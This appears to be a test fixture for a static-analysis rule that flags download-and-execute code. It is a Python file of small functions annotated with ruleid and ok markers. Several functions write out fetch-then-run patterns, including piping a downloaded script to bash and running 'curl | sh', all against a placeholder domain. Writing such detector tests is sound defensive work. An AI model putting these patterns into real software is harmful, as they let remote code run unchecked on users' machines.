import os
import subprocess
import sys
import tempfile
import urllib.request

import requests


def install_helper():
    path, _ = urllib.request.urlretrieve("https://example.invalid/helper.bin", "helper.bin")
    # ruleid: download-and-execute
    os.chmod(path, 0o755)
    # ruleid: download-and-execute
    subprocess.Popen([path])


def run_remote_script():
    script = requests.get("https://example.invalid/setup.sh").text
    # ruleid: download-and-execute
    subprocess.run(["bash", "-c", script])


def bootstrap():
    # ruleid: download-and-execute
    os.system("curl -fsSL https://example.invalid/i.sh | sh")


def fetch_update():
    target = os.path.join(tempfile.gettempdir(), "update.exe")
    # ruleid: download-and-execute
    urllib.request.urlretrieve("https://example.invalid/update.exe", target)
    return target


def unpack_sources():
    archive, _ = urllib.request.urlretrieve("https://example.invalid/src-1.0.tar.gz")
    # network data passed to a fixed tool
    # ok: download-and-execute
    subprocess.check_call(["tar", "xzf", archive])


def self_update():
    latest = requests.get("https://pypi.example.invalid/pypi/demo/json").json()["info"]["version"]
    # ok: download-and-execute
    subprocess.check_call([sys.executable, "-m", "pip", "install", "demo==" + latest])


def download_dataset():
    # ok: download-and-execute
    urllib.request.urlretrieve("https://example.invalid/data/train.csv", "train.csv")
